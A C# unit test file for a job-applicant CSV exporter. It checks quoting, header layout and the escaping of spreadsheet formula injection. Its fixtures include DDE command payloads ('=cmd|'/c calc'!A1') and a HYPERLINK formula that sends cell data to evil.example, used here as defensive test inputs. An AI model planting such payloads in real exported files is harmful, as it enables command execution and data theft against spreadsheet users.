using System.Text;
using OpenLer.Credentials.Matching;
using OpenLer.Credentials.Taxonomy;

namespace OpenLer.Credentials.Tests.Matching;

public sealed class ApplicantsCsvTests
{
    private static readonly DateTimeOffset T0 = new(2026, 3, 1, 9, 0, 0, TimeSpan.Zero);

    private static readonly Dictionary<string, string> Labels = new(StringComparer.Ordinal)
    {
        ["a1"] = "=cmd|'/c calc'!A1",
        ["a2"] = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click, please\")",
        ["a3"] = "@SUM(1+1)*cmd|' /C calc'!A0",
        ["a4"] = "أمينة \"Amina\" Noori",
        ["a5"] = "+1 520 555 0100",
        ["a6"] = "-2+3",
        ["a7"] = "\tTabbed",
        ["a8"] = "\rReturn\nline",
    };

    private static (Vacancy Vacancy, IReadOnlyList<ApplicantMatch> Ranked) Ranked(bool requiresAuthorization = false)
    {
        var vacancy = Vacancy.Create([VacancySkill.Of("2.A.1.a", SkillCategory.MustHave), VacancySkill.Of("2.B.1.f", SkillCategory.NiceToHave)], requiresAuthorization).Value;
        var profiles = Labels.Keys.Select((id, i) => ApplicantProfile.Create(id, T0.AddMinutes(i),
            i % 2 == 0 ? [new CredentialEvidence("urn:cred:" + id, "did:web:cbo.example", true, ["2.A.1.a"])] : [],
            i % 3 == 0 ? ["2.B.1.f"] : [], i == 0 ? true : null));
        return (vacancy, SkillMatcher.Rank(vacancy, profiles));
    }

    /// <summary>An RFC 4180 reader (quoted fields, doubled quotes, CRLF records), as a spreadsheet reads the file.</summary>
    private static List<List<string>> Parse(string text)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"') { field.Append('"'); i++; }
                else if (c == '"') { quoted = false; }
                else { field.Append(c); }
            }
            else if (c == '"') { quoted = true; }
            else if (c == ',') { row.Add(field.ToString()); field.Clear(); }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n') { row.Add(field.ToString()); field.Clear(); rows.Add(row); row = []; i++; }
            else { field.Append(c); }
        }

        Assert.Empty(row);
        return rows;
    }

    [Fact]
    public void Csv_HasBomHeaderAndOneRowPerApplicant()
    {
        var (vacancy, ranked) = Ranked();
        var bytes = ApplicantsCsv.ToBytes(vacancy, ranked, id => Labels[id]);
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
        Assert.EndsWith("\r\n", text, StringComparison.Ordinal);
        var rows = Parse(text);
        Assert.Equal(["Rank", "Applicant", "Score", "Must-haves met", "2.A.1.a Reading Comprehension (must-have)", "2.B.1.f Service Orientation (nice-to-have)", "Proving credentials"], rows[0]);
        Assert.Equal(Labels.Count + 1, rows.Count);
        Assert.All(rows, r => Assert.Equal(7, r.Count));
        Assert.Equal(["1", "'=cmd|'/c calc'!A1", "87.5", "yes", "verified", "self-reported", "urn:cred:a1"], rows[1]);
        Assert.Equal("أمينة \"Amina\" Noori", rows.Single(r => r[1].Contains("Amina", StringComparison.Ordinal))[1]);
        Assert.All(rows.Skip(1), r => Assert.Contains(r[4], new[] { "verified", "self-reported", "missing" }));
    }

    [Theory]
    [InlineData("=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1")]
    [InlineData("=HYPERLINK(\"http://evil.example\",\"x\")", "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("+1", "'+1")]
    [InlineData("-1", "'-1")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "\"'\rx\"")]
    [InlineData("plain", "plain")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("", "")]
    [InlineData(" =not first", " =not first")]
    public void Field_NeutralizesFormulasAndQuotes(string value, string expected) => Assert.Equal(expected, ApplicantsCsv.Field(value));

    [Fact]
    public void EveryInjectionAttempt_IsNeutralized_InTheWrittenFile()
    {
        var (vacancy, ranked) = Ranked();
        var rows = Parse(ApplicantsCsv.ToText(vacancy, ranked, id => Labels[id]));
        foreach (var row in rows)
        {
            Assert.All(row, cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', $"cell {cell} starts a formula"));
        }

        Assert.Contains(rows, r => r[1] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click, please\")");
        Assert.Contains(rows, r => r[1] == "'\rReturn\nline");
    }

    [Fact]
    public void WorkAuthorizationColumn_OnlyWhenRequired()
    {
        var (vacancy, ranked) = Ranked(requiresAuthorization: true);
        var rows = Parse(ApplicantsCsv.ToText(vacancy, ranked, id => Labels[id]));
        Assert.Equal("Work authorization", rows[0][4]);
        Assert.Equal("yes", rows[1][4]);
        Assert.Equal("'=cmd|'/c calc'!A1", rows[1][1]);
        Assert.All(rows.Skip(2), r => Assert.Equal("not disclosed or no", r[4]));
    }

    [Fact]
    public void Write_WritesTheSameBytes()
    {
        var (vacancy, ranked) = Ranked();
        using var stream = new MemoryStream();
        ApplicantsCsv.Write(stream, vacancy, ranked, _ => null);
        Assert.Equal(ApplicantsCsv.ToBytes(vacancy, ranked, _ => null), stream.ToArray());
        Assert.Contains(",a1,", Encoding.UTF8.GetString(stream.ToArray()), StringComparison.Ordinal);
    }
}
